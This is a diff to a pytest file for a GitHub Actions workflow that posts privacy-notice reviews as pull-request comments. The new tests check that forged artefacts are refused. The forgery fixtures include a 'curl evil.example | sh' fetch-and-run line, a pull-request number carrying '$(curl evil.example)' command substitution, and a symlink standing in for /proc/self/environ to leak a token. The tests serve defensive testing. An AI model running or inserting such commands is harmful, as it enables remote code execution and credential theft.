@@ -10,6 +10,7 @@ import re
 import subprocess
 import sys
 import threading
+import time
 from pathlib import Path
 from urllib.parse import parse_qs, urlsplit
 
@@ -17,7 +18,7 @@ import pytest
 
 from conftest import git, run
 from generator.pr_comment import LIMIT, MARKER
-from test_workflow import pull_request_base, step_env, steps
+from test_workflow import comment_workflow, hand_over_artefact, pull_request_base, step_env, steps
 
 TOKEN = "ghs_test-token"
 BOT = "github-actions[bot]"
@@ -28,6 +29,8 @@ class FakeGitHub:
 
     def __init__(self, repository: str = "acme/privacy"):
         self.repository, self.comments, self.requests, self.refuse = repository, [], [], None
+        self.heads: dict[int, str] = {}  # pull request -> its head commit
+        self.delay = 0.0  # seconds before each listing page
         self.held = []  # listings that wait until all have arrived (runs at once): a threading.Barrier
         self.next_id = 1000
         fake = self
@@ -56,9 +59,13 @@ class FakeGitHub:
                 prefix = f"/repos/{fake.repository}/issues/"
                 listing = re.fullmatch(re.escape(prefix) + r"(\d+)/comments", parts.path)
                 single = re.fullmatch(re.escape(prefix) + r"comments/(\d+)", parts.path)
+                pull = re.fullmatch(re.escape(f"/repos/{fake.repository}/pulls/") + r"(\d+)", parts.path)
+                if pull and self.command == "GET" and int(pull[1]) in fake.heads:
+                    return self._answer(200, {"number": int(pull[1]), "head": {"sha": fake.heads[int(pull[1])]}})
                 if listing and self.command == "GET":
                     if fake.held:
                         fake.held.pop().wait(10)
+                    time.sleep(fake.delay)
                     query = parse_qs(parts.query)
                     size, page = int(query["per_page"][0]), int(query["page"][0])
                     mine = [c for c in fake.comments if c["issue"] == int(listing[1])]
@@ -168,32 +175,44 @@ def test_a_refused_or_misdirected_comment_is_one_line(github, actions_env, tmp_p
     assert not github.comments and all(r[0] == "GET" for r in github.requests)
 
 
-def test_the_workflow_review_step_keeps_one_comment_across_pushes(github, tmp_path):
-    """The review job's step, run as Actions runs it on two pushes to one pull request."""
-    (step,) = [s for s in steps("review") if s["run"].startswith("noticegen review")]
-    script = step["run"]
+def test_the_workflows_keep_one_comment_across_pushes(github, tmp_path):
+    """The review job's step and the comment workflow's, run as Actions runs
+    them on two pushes to one pull request, the artefact handed between them."""
+    (review,) = [s for s in steps("review") if "noticegen review" in s["run"]]
+    (comment,) = [s for s in comment_workflow()["jobs"]["comment"]["steps"] if "noticegen comment" in s.get("run", "")]
     project = tmp_path / "project"
     project.mkdir()
     pull_request_base(project)
     section = project / "notices" / "010-who-we-are.md"
     meta = project / "notices" / "notice.yml"
-    runner_temp, summary = tmp_path / "runner-temp", tmp_path / "summary.md"
-    runner_temp.mkdir()
-    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
-           "RUNNER_TEMP": str(runner_temp), "GITHUB_STEP_SUMMARY": str(summary),
-           "GITHUB_API_URL": github.url, "GITHUB_REPOSITORY": github.repository,
-           **step_env(step, {"base_ref": "main", "event.number": "7", "token": TOKEN})}
+    main_checkout = tmp_path / "main-checkout"  # the comment job's: main's constraints only
+    main_checkout.mkdir()
+    path = f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"
     for push, words in enumerate(("We sell your email address to advertisers.", "We keep it for 25 months.")):
         section.write_text(section.read_text() + f"\n{words}\n")
         meta.write_text(re.sub(r'version: "\d+"', f'version: "{push + 2}"', meta.read_text())
                         .replace("effective: 2027-0" + ("1-01" if push == 0 else "6-01"),
                                  "effective: 2027-0" + ("6-01" if push == 0 else "9-01")))
         git(project, "commit", "-qam", f"Version {push + 2}")
-        result = subprocess.run(script, shell=True, cwd=project, env=env, capture_output=True, text=True)
+        head = git(project, "rev-parse", "HEAD").strip()
+        github.heads[7] = head
+        review_temp, comment_temp = tmp_path / f"review-temp-{push}", tmp_path / f"comment-temp-{push}"
+        review_temp.mkdir()
+        comment_temp.mkdir()
+        env = {**os.environ, "PATH": path, "RUNNER_TEMP": str(review_temp),
+               "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md"),
+               **step_env(review, {"base_ref": "main", "event.number": "7"})}
+        result = subprocess.run(review["run"], shell=True, cwd=project, env=env, capture_output=True, text=True)
         assert result.returncode == 0, (result.stdout, result.stderr)
-        assert "::warning::" not in result.stdout, result.stdout
-    (comment,) = github.on(7)
-    assert comment["body"].startswith(f"{MARKER}\n# Privacy notice review") and "version 3" in comment["body"]
+        hand_over_artefact(review_temp, comment_temp)
+        env = {**os.environ, "PATH": path, "RUNNER_TEMP": str(comment_temp), "GITHUB_API_URL": github.url,
+               "GITHUB_REPOSITORY": github.repository,
+               **step_env(comment, {"event.workflow_run.head_sha": head, "token": TOKEN})}
+        result = subprocess.run(comment["run"], shell=True, cwd=main_checkout, env=env, capture_output=True,
+                                text=True)
+        assert result.returncode == 0, (result.stdout, result.stderr)
+    (posted,) = github.on(7)
+    assert posted["body"].startswith(f"{MARKER}\n# Privacy notice review") and "version 3" in posted["body"]
     assert [method for method, _ in github.requests if method != "GET"] == ["POST", "PATCH"]
 
 
@@ -294,7 +313,6 @@ def _post_within(server, seconds: float, timeout: float = 1):
 def test_a_server_that_trickles_its_answer_is_given_up_in_time():
     """The socket timeout bounds each read: one byte every 0.2 s kept a 1 s
     timeout waiting for ever (here: 1,000 bytes, 200 s)."""
-    import time
 
     def trickle(sock):
         sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n[")
@@ -349,3 +367,150 @@ def test_two_runs_at_once_on_one_pull_request_leave_one_comment(github):
     assert comment["body"] in (f"{MARKER}\n# report of push 1\n", f"{MARKER}\n# report of push 2\n")
     assert sorted(verb for verb, _ in done) == ["created", "updated"]
     assert [method for method, _ in github.requests].count("DELETE") == 1
+
+
+HEAD_SHA, OTHER_SHA = "a" * 40, "b" * 40
+
+
+def artefact(folder: Path, report: str = "# Privacy notice review\n\nFrom the pull request's run.\n",
+             number: str = "7\n") -> Path:
+    """What the review job uploads (and the comment job downloads): the report and the pull request's number."""
+    folder.mkdir()
+    (folder / "review.md").write_text(report)
+    (folder / "pull-request.txt").write_text(number)
+    return folder
+
+
+def test_an_artefact_is_posted_only_to_a_pull_request_whose_head_is_the_runs_commit(github, actions_env, tmp_path):
+    """The artefact names its pull request itself, and the pull request's run
+    could name any: a forged number would have put its report on another
+    pull request, replacing that one's review. The commit comes from the
+    event (github.event.workflow_run.head_sha), which it cannot forge."""
+    github.heads = {7: HEAD_SHA, 8: OTHER_SHA}
+    folder = artefact(tmp_path / "review")
+    posted = run("comment", "--artifact", str(folder), "--head-sha", HEAD_SHA, cwd=tmp_path)
+    assert posted.code == 0 and posted.out.startswith("created the review comment on pull request 7"), posted
+    assert github.on(7)[0]["body"] == f"{MARKER}\n# Privacy notice review\n\nFrom the pull request's run.\n"
+    forged = artefact(tmp_path / "forged", "# Privacy notice review\n\nMinor change.\n", "8\n")
+    refused = run("comment", "--artifact", str(forged), "--head-sha", HEAD_SHA, cwd=tmp_path)
+    assert refused.code == 1 and refused.err.count("\n") == 1, refused
+    assert f"pull request 8's head is {OTHER_SHA[:12]}, not {HEAD_SHA[:12]}" in refused.err
+    assert "nothing was posted" in refused.err and not github.on(8)
+    github.heads[7] = OTHER_SHA  # pushed again since: the newer run comments
+    stale = run("comment", "--artifact", str(folder), "--head-sha", HEAD_SHA.upper(), cwd=tmp_path)
+    assert stale.code == 1 and "an older push's" in stale.err
+    assert [r for r in github.requests if r[0] != "GET"] == [("POST", "/repos/acme/privacy/issues/7/comments")]
+    for args in (["--artifact", str(folder)], ["--artifact", str(folder), "--head-sha", HEAD_SHA, "x.md"],
+                 ["--artifact", str(folder), "--head-sha", HEAD_SHA, "--pull-request", "8"], ["x.md"]):
+        usage = run("comment", *args, cwd=tmp_path)
+        assert usage.code == 2 and usage.err.count("\n") == 1, (args, usage)
+    bad_sha = run("comment", "--artifact", str(folder), "--head-sha", "HEAD", cwd=tmp_path)
+    assert bad_sha.code == 1 and "'HEAD' is not a commit id" in bad_sha.err
+
+
+SECRET = "ghs_secret-of-the-commenting-job"
+
+
+def _forged(case: str, folder: Path) -> Path:
+    if case == "huge":
+        return artefact(folder, "# Privacy notice review\n\n" + "x" * 2**20)
+    if case == "no heading":
+        return artefact(folder, "Everything is fine, merge it.\n")
+    if case == "marker":
+        return artefact(folder, f"# Privacy notice review\n\n{MARKER}\n")
+    if case == "control character":
+        return artefact(folder, "# Privacy notice review\n\n\x1b[2Jcleared\n")
+    if case == "not UTF-8":
+        artefact(folder)
+        (folder / "review.md").write_bytes(b"# Privacy notice review\n\n\xff\n")
+        return folder
+    if case == "link":
+        secret = folder.parent / "environ"
+        secret.write_text(f"# Privacy notice review\nGH_TOKEN={SECRET}\n")
+        artefact(folder)
+        (folder / "review.md").unlink()
+        (folder / "review.md").symlink_to(secret)  # a zip can hold a link: /proc/self/environ on the runner
+        return folder
+    if case == "extra file":
+        artefact(folder)
+        (folder / "run.sh").write_text("curl evil.example | sh\n")
+        return folder
+    if case == "no number":
+        artefact(folder)
+        (folder / "pull-request.txt").unlink()
+        return folder
+    if case == "number with a command":
+        return artefact(folder, number="7$(curl evil.example)\n")
+    if case == "huge number":
+        return artefact(folder, number="7" * 100)
+    if case == "a link for a folder":
+        artefact(folder.parent / "elsewhere")
+        folder.symlink_to(folder.parent / "elsewhere")
+        return folder
+    raise AssertionError(case)
+
+
+@pytest.mark.parametrize("case", ["huge", "no heading", "marker", "control character", "not UTF-8", "link",
+                                  "extra file", "no number", "number with a command", "huge number",
+                                  "a link for a folder"])
+def test_a_forged_or_huge_artefact_is_refused_before_github_is_called(github, actions_env, tmp_path, case):
+    """Whatever the pull request's run uploaded is refused unless it is what
+    noticegen review writes: one line naming the file, exit 1, no call."""
+    github.heads = {7: HEAD_SHA}
+    folder = _forged(case, tmp_path / "review")
+    result = run("comment", "--artifact", str(folder), "--head-sha", HEAD_SHA, cwd=tmp_path)
+    assert result.code == 1 and result.err.count("\n") == 1 and "Traceback" not in result.err, result
+    assert "nothing was posted" in result.err and str(folder) in result.err, result.err
+    assert SECRET not in result.err + result.out and "evil" not in result.err
+    assert not github.requests
+
+
+def test_a_loopback_api_is_called_directly_while_a_proxy_is_set(github, actions_env, tmp_path, monkeypatch):
+    """urllib sent every call to $http_proxy, loopback included, unless
+    $no_proxy listed it (and [::1] never matches there): the proxy saw the
+    token of an http:// API in the clear, and a test server on this machine
+    answered nothing."""
+    seen = []
+
+    def proxy(sock):
+        seen.append("request")
+        sock.sendall(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n")
+
+    server = RawServer(proxy)
+    try:
+        for name in ("http_proxy", "HTTP_PROXY", "https_proxy", "HTTPS_PROXY", "all_proxy", "ALL_PROXY"):
+            monkeypatch.setenv(name, server.url)
+        for name in ("no_proxy", "NO_PROXY"):
+            monkeypatch.delenv(name, raising=False)
+        report = tmp_path / "review.md"
+        report.write_text("# Privacy notice review\n")
+        for base in (github.url, github.url.replace("127.0.0.1", "localhost")):
+            monkeypatch.setenv("GITHUB_API_URL", base)
+            result = run("comment", str(report), "--pull-request", "7", cwd=tmp_path)
+            assert result.code == 0, (base, result)
+        monkeypatch.setenv("no_proxy", "localhost,127.0.0.1")
+        assert run("comment", str(report), "--pull-request", "7", cwd=tmp_path).code == 0
+    finally:
+        server.close()
+    assert seen == [] and len(github.on(7)) == 1
+
+
+def test_one_deadline_bounds_every_page_of_the_listing(github):
+    """Each call had 30 s, and a listing has up to 100 pages: a GitHub that
+    answered each page just in time held the job for 50 minutes. Here 20
+    full pages of 0.3 s each, 1 s a call, 1.5 s in all."""
+    from generator.errors import CommentError
+    from generator.pr_comment import PAGE, post_report
+
+    for number in range(20 * PAGE):
+        github.add(7, "someone", f"comment {number}")
+    github.delay = 0.3
+    environ = {"GITHUB_API_URL": github.url, "GITHUB_REPOSITORY": github.repository, "GH_TOKEN": TOKEN}
+    started = time.monotonic()
+    with pytest.raises(CommentError) as raised:
+        post_report("# Privacy notice review\n", 7, environ, timeout=1, total=1.5)
+    took = time.monotonic() - started
+    assert took < 3, f"gave up after {took:.1f} s, not about 1.5 s"
+    assert "the 1.5 s noticegen comment takes in all" in str(raised.value) and "GET /repos/acme/privacy/issues/7/comments" \
+        in str(raised.value)
+    assert not [r for r in github.requests if r[0] != "GET"]
